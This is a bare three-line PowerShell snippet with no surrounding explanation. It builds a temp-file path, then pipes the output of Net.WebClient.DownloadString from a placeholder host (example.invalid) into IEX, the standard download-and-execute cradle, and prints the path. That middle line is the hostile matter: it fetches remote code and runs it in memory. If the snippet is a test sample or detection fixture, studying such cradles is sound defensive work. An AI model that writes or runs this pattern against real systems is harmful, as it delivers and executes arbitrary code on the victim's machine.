$u = "$env:TEMP\x.txt"
IEX (New-Object Net.WebClient).DownloadString("http://example.invalid/")
Write-Host $u
